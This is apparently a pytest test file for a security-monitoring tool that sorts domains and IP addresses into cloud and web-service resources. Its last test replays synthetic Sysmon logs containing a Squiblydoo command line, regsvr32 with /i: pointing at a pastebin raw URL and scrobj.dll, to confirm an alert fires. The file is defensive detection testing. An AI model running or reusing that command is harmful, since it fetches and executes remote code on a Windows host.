"""What a cloud resource is: web services, hosted domains, reverse-lookup names, whole tenant labels with zone
templates, first-party and edge provider space (one test per shape of the issue), and the regsvr32 -> pastebin
staging as Sysmon records it, end to end through ``raresketch run``."""
from __future__ import annotations

import json

import pyarrow as pa
import pytest
from click.testing import CliRunner

from raresketch.catalog import default_catalog
from raresketch.cli import main


@pytest.fixture(scope="module")
def cat():
    return default_catalog()


def _resolve(cat, name, ip=None):
    t = pa.table({"destination.domain": pa.array([name], pa.string()), "destination.ip": pa.array([ip], pa.string())})
    r = cat.resolve_batch(t).to_pylist()[0]
    return {k.removeprefix("raresketch."): v for k, v in r.items()}


# 1. shared web services: one resource per service, kind web/<kind>
@pytest.mark.parametrize("name, res", [
    ("pastebin.com", "web/paste/pastebin.com"),
    ("a.uguu.se", "web/file-sharing/uguu.se"),
    ("transfer.sh", "web/file-sharing/transfer.sh"),
    ("drive.google.com", "web/file-sharing/drive.google.com"),
    ("dl.dropboxusercontent.com", "web/file-sharing/dl.dropboxusercontent.com"),
    ("1drv.ms", "web/file-sharing/1drv.ms"),
    ("webhook.site", "web/webhook/webhook.site"),
    ("raw.githubusercontent.com", "web/code/raw.githubusercontent.com"),
    ("bit.ly", "web/shortener/bit.ly"),
])
def test_web_services(cat, name, res):
    r = _resolve(cat, name, "104.20.4.235")          # a Cloudflare front: the name decides
    assert r["cloud.resource"] == res
    assert r["cloud.provider"] == "web" and r["cloud.service"] == res.split("/")[1]


def test_tenant_labels_stay_tenants_and_x_replit_dev(cat):
    assert _resolve(cat, "x.replit.dev")["cloud.resource"] == "replit/apps/x"
    assert _resolve(cat, "abc-00-x.riker.replit.dev")["cloud.resource"] == "replit/apps/abc-00-x"
    assert _resolve(cat, "someone.github.io")["cloud.resource"] == "github/pages/someone"


# 2. a name on tenant-rentable cloud: the attacker's own domain
@pytest.mark.parametrize("ip, prov", [("3.5.6.7", "aws"), ("34.117.59.81", "google")])
def test_hosted_domain_on_rented_cloud(cat, ip, prov):
    r = _resolve(cat, "www.cdn-update-check.com", ip)
    assert r["cloud.resource"] == f"{prov}/hosted/cdn-update-check.com"
    assert r["cloud.service"] == "hosted" and r["destination.key"] == "www.cdn-update-check.com"
    # without the name it is still a tenant resource of the same provider: capturing DNS never loses it
    assert _resolve(cat, None, ip)["cloud.resource"] == f"{prov}/ip/{ip}"


@pytest.mark.parametrize("name, ip", [
    ("cdn-update-check.com", "8.8.8.8"),           # first-party Google
    ("www.example.com", "104.16.1.1"),             # Cloudflare front
    ("intranet.corp", "3.5.6.7"),                  # no ICANN top-level domain
    ("sts.amazonaws.com", "3.5.6.7"),              # the provider's own domain
    ("cdn-update-check.com", "10.1.2.3"),          # no provider
])
def test_not_hosted(cat, name, ip):
    assert _resolve(cat, name, ip)["cloud.resource"] is None


# 3. reverse-lookup names: the address's identity, the PTR kept
@pytest.mark.parametrize("ptr, ip, res", [
    ("s3-w.us-east-1.amazonaws.com", "52.216.1.1", "aws/ip/52.216.1.1"),
    ("server-13-224-1-2.fra56.r.cloudfront.net", "13.224.1.2", None),          # CloudFront: an edge address
    ("81.59.117.34.bc.googleusercontent.com", None, "google/ip/34.117.59.81"),  # the PTR's own address
    ("ec2-3-5-6-7.compute-1.amazonaws.com", "3.5.6.7", "aws/ip/3.5.6.7"),
    ("fra16s52-in-f14.1e100.net", "142.250.185.78", None),                      # Google first party
    ("a23-45-67-89.deploy.static.akamaitechnologies.com", None, None),
    ("li123-45.members.linode.com", "45.79.1.2", "linode/ip/45.79.1.2"),
    ("x.vultrusercontent.com", "45.76.1.2", "vultr/ip/45.76.1.2"),
])
def test_ptr_names_are_the_address(cat, ptr, ip, res):
    r = _resolve(cat, ptr, ip)
    assert r["cloud.resource"] == res
    assert r["destination.ptr"] == ptr
    assert r["destination.key"] != ptr


def test_real_name_wins_over_ptr_shape_only_when_it_is_a_name(cat):
    assert _resolve(cat, "bucket.s3.amazonaws.com", "52.216.1.1")["cloud.resource"] == "aws/s3/bucket"


# 4. tenant labels: the whole tenant-controlled part, zone/region templates, no region fallback
@pytest.mark.parametrize("name, res", [
    ("c2vm01.eastus.cloudapp.azure.com", "azure/vm/c2vm01"),
    ("c2-h4abcd.z01.azurefd.net", "azure/front-door/c2-h4abcd"),
    ("c2site.z13.web.core.windows.net", "azure/static-website/c2site"),
    ("c2app.happyhill-1a2b.eastus.azurecontainerapps.io", "azure/container-apps/c2app.happyhill-1a2b"),
    ("a1b2c3-ats.iot.us-east-1.amazonaws.com", "aws/iot/a1b2c3-ats"),
    ("x7.appsync-api.us-east-1.amazonaws.com", "aws/appsync/x7"),
    ("bkt--use1-az4--x-s3.s3express-use1-az4.us-east-1.amazonaws.com", "aws/s3-express/bkt--use1-az4--x-s3"),
    ("c2app.scm.azurewebsites.net", "azure/app-service/c2app"),
    ("acct.privatelink.blob.core.windows.net", "azure/blob/acct"),
    ("c2.corp-builds.s3.amazonaws.com", "aws/s3/c2.corp-builds"),
    ("c2.corp-builds.storage.googleapis.com", "gcp/storage/c2.corp-builds"),
    ("acct.queue.core.windows.net", "azure/queue/acct"),
    ("acct.table.core.windows.net", "azure/table/acct"),
    ("acct.dfs.core.windows.net", "azure/data-lake/acct"),
    ("bkt.s3-accelerate.amazonaws.com", "aws/s3/bkt"),
    ("bkt.s3-accelerate.dualstack.amazonaws.com", "aws/s3/bkt"),
    ("hub1.azure-devices.net", "azure/iot-hub/hub1"),
    ("acct1.r2.cloudflarestorage.com", "cloudflare/r2/acct1"),
    ("db1.europe-west1.firebasedatabase.app", "gcp/firebase-database/db1"),
    ("kv1.vault.azure.net", "azure/key-vault/kv1"),
    ("c2.duckdns.org", "duckdns/site/c2"),                           # free_subdomain_hosts.txt
])
def test_tenant_labels(cat, name, res):
    assert _resolve(cat, name)["cloud.resource"] == res


def test_no_region_fallback_to_ec2(cat):
    # X.<svc>.us-east-1.amazonaws.com used to be the EC2 resource X
    r = _resolve(cat, "sqs.us-east-1.amazonaws.com")
    assert r["cloud.resource"] is None and r["cloud.service"] != "ec2"


# 5. first-party provider space: known, not a tenant resource
@pytest.mark.parametrize("ip, prov, cls", [
    ("8.8.8.8", "google", "platform"), ("13.107.6.152", "azure", "platform"), ("40.126.35.1", "azure", "platform"),
    ("20.190.160.1", "azure", "platform"), ("168.63.129.16", "azure", "platform"),
    ("104.16.1.1", "cloudflare", "edge"), ("151.101.1.1", "fastly", "edge"),
    ("3.5.6.7", "aws", "cloud"), ("34.117.59.81", "google", "cloud"),
])
def test_first_party_space(cat, ip, prov, cls):
    r = _resolve(cat, None, ip)
    assert (r["destination.ip_provider"], r["destination.ip_class"]) == (prov, cls)
    assert (r["cloud.resource"] is not None) == (cls == "cloud")


def test_sources_name_every_new_list(cat):
    src = cat.sources()
    assert "MIT" in src["web_services.tsv"] and "2026-08-21" in src["web_services.tsv"]
    assert "MIT" in src["free_subdomain_hosts.txt"]
    assert "2025-07" in src["ip_services.tsv.gz"] and "Licence" in src["ip_services.tsv.gz"]


def test_resolve_explains_each_class():
    runner = CliRunner()
    for args, want in [(["pastebin.com"], "web service"), (["x.example.com", "--ip", "3.5.6.7"], "hosted domain"),
                       (["ec2-3-5-6-7.compute-1.amazonaws.com"], "reverse-lookup name"),
                       (["8.8.8.8"], "first-party"), (["104.16.1.1"], "shared CDN front")]:
        res = runner.invoke(main, ["catalog", "resolve", *args])
        assert res.exit_code == 0 and want in res.output, (args, res.output)


def test_regsvr32_pastebin_as_sysmon_records_it_alerts(tmp_path):
    """Squiblydoo staging: the name only in the command line, a Cloudflare address, no DestinationHostname."""
    lines = []
    cmd = "regsvr32 /s /n /u /i:https://pastebin.com/raw/x1Y2z3 scrobj.dll"
    for h in range(6):                                           # an organisation that never used pastebin
        host = f"ws{h}.corp.example"
        for d in range(3):
            ts = f"2026-11-0{d + 1}T09:00:0{h}.000Z"
            lines.append({"EventID": 3, "Hostname": host, "UtcTime": ts.replace("T", " ")[:-1],
                          "@timestamp": ts, "ProcessGuid": f"{{p{h}{d}}}", "ProcessId": 100,
                          "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                          "DestinationIp": "140.82.112.3", "DestinationPort": 443, "Initiated": "true",
                          "DestinationHostname": "", "SourceIp": "10.0.0.5", "Protocol": "tcp", "User": "CORP\\u"})
    ts = "2026-11-04T10:00:00.000Z"
    lines.append({"EventID": 1, "Hostname": "ws0.corp.example", "UtcTime": "2026-11-04 09:59:59.000",
                  "@timestamp": "2026-11-04T09:59:59.000Z", "ProcessGuid": "{evil}", "ProcessId": 666,
                  "Image": "C:\\Windows\\System32\\regsvr32.exe", "CommandLine": cmd,
                  "ParentImage": "C:\\Windows\\explorer.exe", "OriginalFileName": "REGSVR32.EXE"})
    lines.append({"EventID": 3, "Hostname": "ws0.corp.example", "UtcTime": "2026-11-04 10:00:00.000",
                  "@timestamp": ts, "ProcessGuid": "{evil}", "ProcessId": 666,
                  "Image": "C:\\Windows\\System32\\regsvr32.exe", "DestinationIp": "104.20.4.235",
                  "DestinationPort": 443, "Initiated": "true", "DestinationHostname": "", "SourceIp": "10.0.0.5",
                  "Protocol": "tcp", "User": "CORP\\u"})
    f = tmp_path / "sysmon.jsonl"
    f.write_text("\n".join(json.dumps(x) for x in lines) + "\n")
    out = tmp_path / "alerts.jsonl"
    res = CliRunner().invoke(main, ["run", str(f), "--format", "sysmon", "--activation-days", "0", "--out", str(out)])
    assert res.exit_code == 0, res.output
    alerts = [json.loads(x) for x in out.read_text().splitlines()]
    text = json.dumps(alerts)
    assert "web/paste/pastebin.com" in text, text[:2000]
    assert any("regsvr32" in json.dumps(a).lower() and "pastebin.com" in json.dumps(a) for a in alerts)
